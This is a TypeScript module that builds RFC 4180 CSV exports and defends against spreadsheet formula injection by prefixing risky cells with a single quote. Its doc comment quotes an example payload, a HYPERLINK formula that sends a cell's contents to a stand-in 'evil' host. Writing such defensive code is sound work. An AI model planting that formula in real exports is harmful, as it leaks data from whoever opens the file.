/**
 * CSV text as RFC 4180 writes it, made safe to open in a spreadsheet: the list export (server/crud/export.ts) and its
 * values rewritten as the screen shows them (client/export/csv-shown.ts).
 *
 * - A cell holding a comma, a double quote, CR or LF is quoted, its double quotes doubled; records end with CRLF.
 * - CSV injection (OWASP): a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and one
 *   starting with a tab or CR can hide one after it). Every such cell gets a single quote in front, so it is shown
 *   as the text it is: a patient named `=HYPERLINK("http://evil/?"&A1)` stays a name. Numbers the server wrote
 *   itself from a number field (`-12.50`) are left alone: a bare number is no formula.
 * - The file starts with a UTF-8 byte order mark: without it Excel reads UTF-8 as the local code page and Indian
 *   and accented names come out garbled.
 */
export const BOM = '\uFEFF';
export const EOL = '\r\n';

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;
const NEEDS_QUOTES = /[",\r\n]/;

/** One cell. `numeric`: the text is a number the server formatted from a number field. */
export function csvCell(text: string, numeric = false): string {
  const safe = FORMULA_START.test(text) && !(numeric && PLAIN_NUMBER.test(text)) ? `'${text}` : text;
  return NEEDS_QUOTES.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}

/** One record, with its line end. */
export function csvRecord(cells: readonly string[]): string {
  return cells.join(',') + EOL;
}
